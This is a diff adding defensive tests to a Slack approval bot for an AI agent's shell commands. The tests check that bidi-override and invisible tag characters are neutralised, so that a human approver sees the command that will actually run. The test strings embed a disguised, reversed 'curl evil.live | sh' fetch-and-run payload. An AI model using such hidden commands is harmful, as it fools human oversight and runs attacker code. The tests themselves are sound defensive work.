@@ -10,7 +10,7 @@ import json
 from bot.approvals import keys
 from bot.approvals.audit import AuditLog
 from bot.slack.ids import Action
-from tests.conftest import CHANNEL, context, policy_file, posted
+from tests.conftest import CHANNEL, cancelled, context, policy_file, posted
 from tests.fakes.slack_api import TEAM_DOMAIN
 from tests.fakes.slack_payloads import event_callback
 from tests.test_cli import run
@@ -142,3 +142,37 @@ async def test_audit_command_exports_and_verifies(tmp_path, start_worker, make_a
 
     code, _out, err = await run("audit", "--since", "last tuesday", cwd=tmp_path, REDIS_URL=redis_server.url)
     assert code == 2 and "expected a date" in err
+
+
+_UNSEEN_FORMAT = {"\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
+                  "\u200e", "\u200f", "\u061c", "\U000e0041"}
+"""Characters a reader cannot see that change what they read: bidi embeddings, overrides and
+isolates, marks, and a tag character (invisible "ASCII smuggling")."""
+
+
+async def test_a_command_is_shown_as_it_runs_not_reordered_by_bidi_controls(start_worker, make_approver, slack):
+    """mrkdwn.clean() replaces C0 controls and lone surrogates but lets Unicode format characters
+    through: U+202E (RIGHT-TO-LEFT OVERRIDE) in a command makes Slack's client draw the rest of
+    the line reversed, so the approver reads other text than the shell will run (Trojan Source).
+    bot/approvals/grants.py already refuses these in an Always-allow rule; the card itself, the
+    notification text and View full input show them raw."""
+    await start_worker()
+    approver = await make_approver()
+    command = "echo build ok #\u202e\u2066 ;hs | moc.live//:sptth lruc\u2069 \U000e0041"
+    task = asyncio.create_task(approver.can_use_tool("Bash", {"command": command}, context("toolu_bidi")))
+    message = await posted(slack)
+    shown = json.dumps(message.blocks, ensure_ascii=False) + message.text
+    raw = sorted(f"U+{ord(c):04X}" for c in _UNSEEN_FORMAT if c in shown)
+    assert raw == [], f"shown raw, changing what the approver reads: {raw}"
+    await cancelled(task)
+
+
+def test_view_full_input_names_what_a_reader_cannot_see():
+    from tests.test_blocks import request
+
+    from bot.slack import blocks
+
+    command = "echo ok #\u202e sh | evil\u2069 \u200b\U000e0041 \u2028 \ue000"
+    view = json.dumps(blocks.full_input_modal(request("Bash", {"command": command})), ensure_ascii=False)
+    assert not any(c in view for c in _UNSEEN_FORMAT | {"\u2028", "\ue000"})
+    assert "⟦U+202E⟧" in view and "⟦U+E0041⟧" in view and "⟦U+200B⟧" in view
